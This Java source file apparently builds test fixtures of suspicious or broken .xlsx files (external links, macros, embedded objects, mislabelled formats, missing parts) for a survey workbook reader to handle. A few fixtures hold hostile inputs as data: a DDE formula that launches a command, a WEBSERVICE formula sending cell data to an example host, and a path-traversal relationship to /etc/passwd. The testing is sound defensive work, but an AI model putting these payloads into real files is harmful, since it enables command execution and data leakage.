package jp.renkei.surveys.workbook;

import static jp.renkei.surveys.workbook.RawWorkbook.outerRelationship;
import static jp.renkei.surveys.workbook.RawWorkbook.relationship;
import static jp.renkei.surveys.workbook.RawWorkbook.relationships;
import static jp.renkei.surveys.workbook.RawWorkbook.sheetEntry;
import static jp.renkei.surveys.workbook.RawWorkbook.workbook;

import java.nio.charset.StandardCharsets;
import java.util.Map;

/** Files that bring something along, are of another kind, or lack a part. */
final class ForeignWorkbooks {
  private static final String SHEET_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels";
  private static final String CELL = "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>";

  private ForeignWorkbooks() {}

  static void addTo(Map<String, byte[]> files) {
    outerContent(files);
    macros(files);
    otherKinds(files);
    broken(files);
  }

  private static void outerContent(Map<String, byte[]> files) {
    files.put(
        "link-to-workbook.xlsx",
        RawWorkbook.minimal()
            .workbookRelation(
                relationship("rId7", "externalLink", "externalLinks/externalLink1.xml"))
            .part("xl/externalLinks/externalLink1.xml", "<externalLink/>")
            .bytes());
    files.put(
        "connection.xlsx",
        RawWorkbook.minimal()
            .workbookRelation(relationship("rId7", "connections", "connections.xml"))
            .part("xl/connections.xml", "<connections/>")
            .bytes());
    files.put(
        "query-table.xlsx",
        RawWorkbook.minimal()
            .part(
                SHEET_RELATIONS,
                relationships(relationship("rId1", "queryTable", "../queryTables/q.xml")))
            .part("xl/queryTables/q.xml", "<queryTable/>")
            .bytes());
    files.put(
        "embedded-object.xlsx",
        RawWorkbook.minimal()
            .part(
                SHEET_RELATIONS,
                relationships(relationship("rId1", "oleObject", "../embeddings/o.bin")))
            .part("xl/embeddings/o.bin", "x")
            .bytes());
    files.put(
        "outer-image.xlsx",
        RawWorkbook.minimal()
            .part(
                SHEET_RELATIONS,
                relationships(
                    outerRelationship("rId1", "image", "http://renkei.example/pixel.png")))
            .bytes());
    files.put(
        "hyperlink.xlsx",
        RawWorkbook.of(CELL)
            .part(
                SHEET_RELATIONS,
                relationships(outerRelationship("rId1", "hyperlink", "https://renkei.example/")))
            .bytes());
    files.put(
        "dde-formula.xlsx",
        RawWorkbook.of("<row><c><f>cmd|'/c calc'!A0</f><v>0</v></c></row>").bytes());
    files.put(
        "web-formula.xlsx",
        RawWorkbook.of(
                "<row><c><f>_xlfn.WEBSERVICE(\"http://renkei.example/\"&amp;A2)</f><v>0</v></c></row>")
            .bytes());
  }

  private static void macros(Map<String, byte[]> files) {
    files.put(
        "macro-under-another-name.xlsx",
        RawWorkbook.minimal()
            .mainType("application/vnd.ms-excel.sheet.macroEnabled.main+xml")
            .bytes());
    files.put(
        "macro-without-type.xlsx", RawWorkbook.minimal().part("xl/vbaProject.bin", "x").bytes());
    files.put(
        "macro-sheet.xlsx",
        RawWorkbook.minimal()
            .workbookRelation(relationship("rId7", "xlMacrosheet", "macrosheets/sheet1.xml"))
            .part("xl/macrosheets/sheet1.xml", "<a/>")
            .bytes());
  }

  private static void otherKinds(Map<String, byte[]> files) {
    files.put("empty.xlsx", new byte[0]);
    files.put("one-byte.xlsx", new byte[] {'P'});
    files.put("zeros.xlsx", new byte[4_096]);
    text(files, "html.xlsx", "<html><body><table><tr><td>回答</td></tr></table></body></html>");
    text(
        files,
        "xml-spreadsheet-2003.xlsx",
        "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"/>");
    text(files, "xml.xlsx", "<?xml version=\"1.0\"?><data/>");
    text(files, "csv.xlsx", "設問,回答\r\nA1_01,12\r\n");
    text(files, "json.xlsx", "{\"A1_01\": 12}");
    text(files, "pdf.xlsx", "%PDF-1.7\n");
    files.put("csv-utf16.xlsx", "設問,回答".getBytes(StandardCharsets.UTF_16));
    String word =
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    files.put("word.xlsx", RawWorkbook.minimal().mainType(word).bytes());
    files.put(
        "powerpoint.xlsx",
        RawWorkbook.minimal()
            .mainType(word.replace("wordprocessingml.document", "presentationml.presentation"))
            .bytes());
    files.put(
        "open-document.xlsx",
        new RawWorkbook()
            .part("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
            .part("content.xml", "<a/>")
            .bytes());
    files.put(
        "java-archive.xlsx",
        new RawWorkbook().part("META-INF/MANIFEST.MF", "Manifest-Version: 1.0").bytes());
    files.put(
        "template.xltx",
        RawWorkbook.of(CELL)
            .mainType(
                "application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml")
            .bytes());
  }

  private static void broken(Map<String, byte[]> files) {
    files.put("missing-sheet.xlsx", RawWorkbook.minimal().without(RawWorkbook.SHEET).bytes());
    files.put(
        "missing-relationship.xlsx",
        RawWorkbook.minimal().part("xl/_rels/workbook.xml.rels", relationships()).bytes());
    files.put("missing-workbook.xlsx", RawWorkbook.minimal().without("xl/workbook.xml").bytes());
    files.put(
        "missing-shared-texts.xlsx",
        RawWorkbook.minimal().sharedTexts("").without("xl/sharedStrings.xml").bytes());
    files.put(
        "unknown-shared-text.xlsx",
        RawWorkbook.of("<row><c r=\"B7\" t=\"s\"><v>3</v></c></row>").bytes());
    files.put(
        "negative-shared-text.xlsx", RawWorkbook.of("<row><c t=\"s\"><v>-1</v></c></row>").bytes());
    files.put(
        "cell-twice.xlsx",
        RawWorkbook.of("<row><c r=\"A1\"><v>1</v></c><c r=\"A1\"><v>2</v></c></row>").bytes());
    files.put(
        "sheet-twice.xlsx",
        RawWorkbook.minimal()
            .part(
                "xl/workbook.xml",
                workbook("<sheets>" + sheetEntry("調査票", 1) + sheetEntry("調査票", 1) + "</sheets>"))
            .bytes());
    files.put(
        "relationship-to-itself.xlsx",
        RawWorkbook.minimal()
            .part(
                "_rels/.rels", relationships(relationship("rId1", "officeDocument", "_rels/.rels")))
            .bytes());
    files.put(
        "relationship-outside.xlsx",
        RawWorkbook.minimal()
            .part(
                "_rels/.rels",
                relationships(relationship("rId1", "officeDocument", "../../../etc/passwd")))
            .bytes());
    files.put(
        "no-content-types.xlsx", RawWorkbook.minimal().without("[Content_Types].xml").bytes());
  }

  private static void text(Map<String, byte[]> files, String name, String text) {
    files.put(name, text.getBytes(StandardCharsets.UTF_8));
  }
}
